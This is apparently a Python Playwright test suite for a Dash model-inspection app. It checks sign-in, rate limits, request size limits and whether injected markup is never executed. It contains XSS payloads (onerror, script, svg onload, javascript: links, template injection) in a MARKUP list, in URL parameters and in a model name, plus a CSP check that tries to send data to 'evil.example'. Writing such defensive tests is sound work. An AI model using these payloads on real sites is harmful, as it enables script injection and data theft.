"""In a real browser: sign-in, messages of refusals, and no text of a token is executed."""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from dash import Dash
from playwright.sync_api import expect

from analysis.contract.specs import Token
from dash_app.page.theme import DARK
from dash_app.security.users import Users
from tests.security.conftest import PASSWORD, MakeApp, Watched
from tests.security.live import served
from tests.support import fake_service, pictures
from tests.support.time_limits import PATIENCE_MS, PATIENCE_S

pytestmark = [
    pytest.mark.browser,
    # The garbage collector closes compressed files; pytest would warn about it in this process.
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]
expect.set_options(timeout=PATIENCE_MS)

#: Attacks in a prompt, a token or a model's name.
MARKUP = (
    "<img src=x onerror=window.hit=1>",
    "<script>window.hit=1</script>",
    '"><svg onload=window.hit=1>',
    '<a href="javascript:window.hit=1">go</a>',
    "<b>bold</b>",
    "&lt;i&gt;",
    "</script><script>window.hit=1</script>",
    "{{7*7}}${7*7}",
)
Open = Callable[..., Any]


@pytest.fixture
def opened(browser: Any) -> Iterator[Open]:
    """Open a page; what its console says is in ``page.said``."""
    contexts: list[Any] = []

    def go(address: str, **options: Any) -> Any:
        contexts.append(browser.new_context(viewport={"width": 1280, "height": 900}, **options))
        page = contexts[-1].new_page()
        page.set_default_timeout(PATIENCE_MS)
        page.said = []
        page.on("console", lambda message: page.said.append(message.text))
        page.on("pageerror", lambda error: page.said.append(str(error)))
        page.goto(address)
        return page

    yield go
    for context in contexts:
        context.close()


def sign_in(page: Any) -> None:
    """Fill in the form when the page has set the focus; before that, Chromium complains."""
    expect(page.get_by_label("User")).to_be_focused()
    page.get_by_label("User").fill("alice")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()


@pytest.mark.full
def test_sign_in_expiry_and_sign_out(guarded: Dash, users: Users, opened: Open) -> None:
    with served(guarded) as address:
        page = opened(f"{address}?row=3", color_scheme="light")
        expect(page.get_by_role("heading")).to_have_text("Sign in")
        page.screenshot(path=pictures.IMAGES / "sign-in.png")
        expect(page.get_by_label("User")).to_be_focused()
        page.keyboard.type("alice")
        page.keyboard.press("Tab")
        page.keyboard.type("wrong password")
        page.keyboard.press("Enter")
        expect(page.get_by_role("alert")).to_contain_text("is wrong")
        expect(page.get_by_label("User")).to_have_value("alice")
        expect(page.get_by_label("Password")).to_be_focused()
        page.keyboard.type(PASSWORD)
        page.keyboard.press("Enter")
        page.wait_for_selector(".story-phrase")
        assert "row=3" in page.url
        expect(page.locator(".sign-out")).to_contain_text("alice")
        page.context.clear_cookies()
        page.locator(".token").nth(2).click()
        expect(page.locator(".alerts")).to_contain_text("You are signed out")
        page.get_by_role("link", name="Sign in").click()
        sign_in(page)
        page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_role("heading")).to_have_text("Sign in")
        page.goto(address)
        expect(page.get_by_role("heading")).to_have_text("Sign in")
        # Dash reads the body of a 401 twice.
        known = ("status of 401", "body stream already read")
        assert [said for said in page.said if not any(part in said for part in known)] == []


def test_the_sign_in_page_needs_no_script_and_has_a_dark_theme(guarded: Dash, opened: Open) -> None:
    with served(guarded) as address:
        page = opened(address, java_script_enabled=False, color_scheme="dark")
        expect(page.get_by_role("heading")).to_have_text("Sign in")
        page.screenshot(path=pictures.IMAGES / "sign-in-dark.png")
        sign_in(page)
        page.wait_for_url(address)
        assert page.context.cookies()[0]["httpOnly"]
        again = opened(f"{address}login", color_scheme="dark")
        shown = again.evaluate("getComputedStyle(document.body).backgroundColor")
        red, green, blue = (int(DARK.page[start : start + 2], 16) for start in (1, 3, 5))
        assert shown == f"rgb({red}, {green}, {blue})"


def test_too_many_requests_are_reported_in_the_page(make_app: MakeApp, opened: Open) -> None:
    with served(make_app(requests_per_minute=10)) as address:  # an address: 100, 25 at once
        page = opened(address)
        page.wait_for_selector(".story-phrase")
        for key in ("ArrowLeft", "ArrowRight") * 20:  # one may be admitted on a slow machine
            page.evaluate("() => Promise.all(Array.from({ length: 60 }, () => fetch('/')))")
            page.keyboard.press(key)
            page.wait_for_timeout(300)
            if page.locator(".alert-id").count():
                break
        expect(page.locator(".alerts")).to_contain_text("You sent more requests")
        expect(page.locator(".alert-id")).to_contain_text("Request ")
        picture = pictures.IMAGES / "refused.png"
        page.screenshot(path=picture)


@pytest.mark.full
def test_a_too_large_request_is_reported_in_the_page(make_app: MakeApp, opened: Open) -> None:
    with served(make_app(max_body_kib=64)) as address:
        page = opened(address)
        page.wait_for_selector(".story-phrase")
        page.evaluate("document.getElementById('run-prompt').maxLength = 1000000")
        page.fill("#run-prompt", "word " * 20_000)
        page.click("#run-button")
        expect(page.locator(".alerts")).to_contain_text("larger than the server accepts")
        assert len(page.input_value("#run-prompt")) == 100_000
        page.fill("#run-prompt", "few words")
        page.click("#run-button")  # it does not send the refused request again
        page.wait_for_url("**prompt=few*")


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch) -> Watched:
    """A service whose tokens are markup."""

    def token(number: int) -> Token:
        return Token(number, MARKUP[number % len(MARKUP)], MARKUP[number % len(MARKUP)], "")

    monkeypatch.setattr(fake_service, "token", token)
    return Watched()


def test_the_text_of_a_token_is_shown_and_never_executed(
    make_app: MakeApp, hostile: Watched, opened: Open
) -> None:
    with served(make_app(hostile)) as address:
        page = opened(f"{address}?prompt=" + "%3Cimg%20src%3Dx%20onerror%3Dwindow.hit%3D1%3E%20b")
        page.wait_for_selector(".story-phrase")
        page.wait_for_selector("#lens-graph .heatmaplayer image")
        page.wait_for_selector("#curves-graph .scatterlayer .trace")
        hover_everything(page)
        assert page.evaluate("window.hit") is None
        made = "img[src=x], svg[onload], a[href^='javascript'], .js-plotly-plot b, [onerror]"
        assert page.locator(made).count() == 0
        expect(page.locator(".token").first).to_contain_text("<")
        assert "<img src=x onerror" in page.input_value("#run-prompt")
        assert page.said == []
        the_policy_holds(page, address)


def hover_everything(page: Any) -> None:
    """Show the hover boxes of every figure and read one."""
    for name in ("lens-graph", "curves-graph", "attention-graph", "flow-canvas"):
        plot = page.locator(f"#{name}")
        plot.scroll_into_view_if_needed()
        box = plot.bounding_box()
        for across in (0.3, 0.5, 0.7):
            page.mouse.move(box["x"] + box["width"] * across, box["y"] + box["height"] * 0.5)
            page.wait_for_timeout(120)
        if name == "lens-graph":
            shown = page.locator("#lens-graph .hoverlayer .hovertext")
            expect(shown).to_contain_text("<")


@pytest.mark.full
def test_the_name_of_a_model_is_text(
    make_app: MakeApp, opened: Open, monkeypatch: pytest.MonkeyPatch, tmp_path: Any
) -> None:
    folder = tmp_path / "model"
    folder.mkdir()
    monkeypatch.setenv("STRATASCOPE_MODELS", f"<img src=x onerror=window.hit=1>={folder}")
    with served(make_app()) as address:
        page = opened(f"{address}?model=%3Cimg%20src%3Dx%20onerror%3Dwindow.hit%3D1%3E")
        page.wait_for_selector(".story-phrase")
        expect(page.locator("#run-model")).to_contain_text("<img src=x")
        page.goto(f"{address}?model=%3C/script%3E%3Cscript%3Ewindow.hit=1%3C/script%3E")
        expect(page.locator(".alerts")).to_contain_text("does not offer the model")
        assert page.evaluate("window.hit") is None
        assert page.locator("img[src=x]").count() == 0


def refusals(page: Any) -> int:
    """How often the browser has reported a policy violation."""
    return sum("Content Security Policy" in said for said in page.said)


def the_policy_holds(page: Any, address: str) -> None:
    """The last defence: injected markup can run nothing and send nothing."""
    page.evaluate(
        """() => {
            const box = document.createElement("div");
            box.innerHTML = "<img src=x onerror='window.hit=1'>"
                + "<img src='https://evil.example/?q=prompt'>";
            document.body.append(box);
            const script = document.createElement("script");
            script.textContent = "window.hit=2";
            document.body.append(script);
            setTimeout(() => {  // later: what a test evaluates itself may
                try { new Function("window.hit=3")(); } catch { window.stopped = true; }
            });
        }"""
    )
    ends = time.monotonic() + PATIENCE_S
    while not page.evaluate("window.stopped") or refusals(page) < 3:
        assert time.monotonic() < ends, page.said
        page.wait_for_timeout(100)
    assert page.evaluate("window.hit") is None
    framed = page.evaluate(
        """async (address) => {
            const frame = document.createElement("iframe");
            frame.src = address;
            document.body.append(frame);
            await new Promise((done) => { frame.onload = done; setTimeout(done, 2000); });
            return frame.contentDocument?.body?.innerText?.length ?? 0;
        }""",
        address,
    )
    assert framed == 0
